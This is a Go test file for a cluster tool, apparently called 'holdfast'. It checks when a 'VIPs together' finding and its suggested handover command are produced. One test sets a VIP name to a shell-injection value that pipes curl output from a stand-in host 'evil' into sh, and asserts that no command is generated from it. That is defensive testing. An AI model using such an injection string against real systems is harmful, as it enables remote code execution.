package cloud

import (
	"slices"
	"strings"
	"testing"
	"time"

	"holdfast/internal/status"
)

// second gives each controller a second VIP, which ctl2 is to have, held by holder since.
func second(a []Answer, holder string, since time.Time) {
	for i := range a {
		s := a[i].Snapshot
		s.VIPs[0].Prefer = []string{"ctl1", "ctl2", "ctl3"}
		v := s.VIPs[0]
		v.Name, v.Prefer, v.Holder, v.State, v.Present, v.Since = "two", []string{"ctl2", "ctl3", "ctl1"}, holder, status.Backup, false, since
		if s.Controller == holder {
			v.State, v.Present = status.Active, true
		}
		s.VIPs = append(s.VIPs, v)
	}
}

// TestTogether tells of VIPs that have all been on one controller for some time, and of
// those only, while another one could have one of them.
func TestTogether(t *testing.T) {
	long := now.Add(-time.Hour)
	for _, tt := range []struct {
		name   string
		change func([]Answer)
		want   bool
	}{
		{"spread", func(a []Answer) { second(a, "ctl2", long) }, false},
		{"together", func(a []Answer) { second(a, "ctl1", long) }, true},
		{"together of late", func(a []Answer) { second(a, "ctl1", now.Add(-9*time.Minute)) }, false},
		{"one VIP", func([]Answer) {}, false},
		{"who is to have it is drained", func(a []Answer) {
			second(a, "ctl1", long)
			a[1].Snapshot.Drains = []status.Drained{{}}
		}, false},
		{"its HAProxy is down", func(a []Answer) {
			second(a, "ctl1", long)
			a[1].Snapshot.HAProxy.State = status.HAProxyDown
		}, false},
		{"it does not answer", func(a []Answer) {
			second(a, "ctl1", long)
			lose(&a[1], "no route to host")
		}, false},
		{"an order that is one for all", func(a []Answer) {
			second(a, "ctl1", long)
			for i := range a {
				a[i].Snapshot.VIPs[1].Prefer = []string{"ctl1", "ctl2", "ctl3"}
			}
		}, false},
		{"agents of before, which say no order", func(a []Answer) {
			second(a, "ctl1", long)
			for i := range a {
				a[i].Snapshot.VIPs[0].Prefer, a[i].Snapshot.VIPs[1].Prefer = nil, nil
			}
		}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			a := cloudOf(3)
			tt.change(a)
			all := Merge(now, "", a).Findings
			i := slices.IndexFunc(all, func(f status.Finding) bool { return f.Code == status.CodeVIPsTogether })
			if (i >= 0) != tt.want {
				t.Fatalf("findings: %+v", all)
			}
			if i >= 0 && (all[i].Severity != status.Info || !strings.Contains(all[i].Command, "holdfast handover --vip two --to ctl2")) {
				t.Errorf("%+v", all[i])
			}
		})
	}
}

// TestTogetherIsSafe gives no command of a VIP's name that a shell would obey.
func TestTogetherIsSafe(t *testing.T) {
	a := cloudOf(3)
	second(a, "ctl1", now.Add(-time.Hour))
	for i := range a {
		a[i].Snapshot.VIPs[1].Name = "x;curl$IFS evil|sh"
	}
	for _, f := range Merge(now, "", a).Findings {
		if f.Code == status.CodeVIPsTogether && f.Command != "" {
			t.Errorf("%q", f.Command)
		}
	}
}
